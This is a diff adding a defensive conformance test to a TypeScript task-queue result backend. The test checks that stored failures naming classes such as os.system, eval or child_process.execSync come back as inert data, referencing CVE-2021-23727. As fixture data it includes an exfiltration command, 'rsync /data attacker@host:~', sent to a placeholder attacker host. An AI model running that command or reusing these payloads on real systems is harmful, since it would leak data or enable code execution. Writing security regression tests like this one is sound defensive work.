@@ -3,6 +3,8 @@
  * drivers and files can share one server.
  */
 import { afterEach, describe, expect, it } from 'vitest';
+import { RemoteTaskError } from '../../errors.js';
+import { exceptionFromMeta } from '../../protocol/exception.js';
 import { uuid } from '../../protocol/ids.js';
 import { States, type ResultMeta } from '../../types.js';
 import type { ResultBackend } from '../backend.js';
@@ -301,6 +303,36 @@ export function backendConformance(driver: string, options: BackendSuiteOptions)
       });
       expect(again).toEqual({ ready: 1, size: 2, extra: 0 });
       await counter.deleteChord(gid);
+    });
+
+    it('hands back a stored failure naming any class as data, never revived as that class', async () => {
+      // Celery raises SecurityError for these (CVE-2021-23727); Celeriac never looks a class up by name at all.
+      const backend = await connected();
+      const payloads: [string | null, string][] = [
+        ['os', 'system'],
+        ['builtins', 'eval'],
+        ['child_process', 'execSync'],
+        ['__proto__', 'constructor'],
+        [null, 'toString'],
+      ];
+      for (const [excModule, excType] of payloads) {
+        const id = uuid();
+        const stored = {
+          exc_type: excType,
+          exc_module: excModule,
+          exc_message: ['rsync /data attacker@host:~'],
+        };
+        await backend.store(meta(id, States.FAILURE, stored));
+        const read = (await backend.get(id)) ?? (await backend.waitFor(id, { timeoutMs: 10_000 }));
+        expect(read.result).toEqual(stored);
+        const error = exceptionFromMeta(read.result, read.traceback, id);
+        expect(Object.getPrototypeOf(error)).toBe(RemoteTaskError.prototype);
+        expect([error.excModule, error.excType, error.remoteMessage]).toEqual([
+          excModule,
+          excType,
+          'rsync /data attacker@host:~',
+        ]);
+      }
     });
 
     it('declares chords none exactly when it has no chord counter', async () => {
